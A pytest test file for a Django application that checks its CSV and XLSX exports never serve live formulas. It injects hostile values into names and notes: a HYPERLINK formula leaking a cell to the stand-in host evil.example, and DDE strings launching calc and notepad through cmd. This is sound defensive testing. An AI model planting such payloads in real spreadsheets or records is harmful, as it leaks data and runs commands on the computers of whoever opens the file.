"""Issue 14, item 5: no cell of any CSV or XLSX file the application serves is a live formula.

Every URL pattern is fetched by every role (with the access matrix's arguments, plus every kind
and format of the report export); each answer that is a spreadsheet is opened and every cell
checked. Names, notes and codes hold formula-like text first, as an attacker would type it.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_PREFIXES
from tests.test_access_matrix import ACCESS, ROLES, URL_NAMES

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
INJECTED = {
    "applicant": HYPERLINK,
    "procedure": "@SUM(1+1)*cmd|' /C calc'!A0",
    "commune": "+1+cmd|' /C notepad'!A0",
    "office": "-2+3+cmd|' /C calc'!A0",
}
CSV_TYPES = ("text/csv",)
XLSX_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",)
# URLs whose arguments choose among several files: every one of them is fetched.
MORE_ARGS = {"reports:export": [[kind, fmt] for kind in ("weekly", "ytd") for fmt in ("csv", "xlsx")]}


@pytest.fixture
def hostile_world(world):
    dossier = world["dossier"]
    dossier.applicant_name = INJECTED["applicant"]
    dossier.decline_note = HYPERLINK
    dossier.save()
    dossier.procedure.name = INJECTED["procedure"]
    dossier.procedure.save()
    world["commune"].name = INJECTED["commune"]
    world["commune"].save()
    world["post_office"].name = INJECTED["office"]
    world["post_office"].address = HYPERLINK
    world["post_office"].save()
    return world


def _cells(response) -> list[tuple[object, str]]:
    """(value, kind) of every cell: kind is "text", "number", "formula" (XLSX) or "csv"."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response["Content-Type"].split(";")[0]
    if kind in CSV_TYPES:
        text = body.decode("utf-8-sig")
        return [(cell, "csv") for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    cells.append((cell.value, {"f": "formula", "n": "number"}.get(cell.data_type, "text")))
    return cells


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def _get(client, world, role, url):
    client.logout()
    if role != "anonymous":
        client.force_login(world["users"][role])
    return client.get(url)


def _spreadsheets(world, client):
    """Every (url name, url, role, response) answering with a CSV or XLSX file: each URL is
    fetched once by a role it serves; the ones that answer with a file, by every such role."""
    found = []
    for name in URL_NAMES:
        access = ACCESS[name]
        roles = [role for role in ROLES if access.expect.get(role) == 200]
        for args in MORE_ARGS.get(name, [access.args(world)]):
            url = reverse(name, args=args)
            if not roles or _get(client, world, roles[0], url)["Content-Type"].split(";")[0] not in (
                CSV_TYPES + XLSX_TYPES
            ):
                continue
            found.extend((name, url, role, _get(client, world, role, url)) for role in roles)
    return found


def test_no_spreadsheet_cell_is_a_formula(hostile_world, client):
    files = _spreadsheets(hostile_world, client)
    names = {name for name, *_ in files}
    # The exports the issue names must be among them, so a renamed URL cannot skip the check.
    assert {
        "dossiers:export_csv",
        "dossiers:export_xlsx",
        "reports:export",
        "communes:office_export",
    } <= names
    seen_injected = set()
    for name, url, role, response in files:
        for value, kind in _cells(response):
            text = str(value)
            assert kind != "formula", f"{url} as {role}: formula cell {text!r}"
            if kind == "csv" and text.startswith(FORMULA_PREFIXES):
                assert _is_number(text), f"{url} as {role}: CSV cell {text!r} would run as a formula"
            for label, injected in INJECTED.items():
                if injected in text:
                    seen_injected.add((name, label))
    # The hostile text did reach the files (as text): the check above looked at real cells.
    assert ("dossiers:export_csv", "applicant") in seen_injected
    assert ("dossiers:export_xlsx", "applicant") in seen_injected
    assert ("reports:export", "commune") in seen_injected
    assert ("communes:office_export", "office") in seen_injected
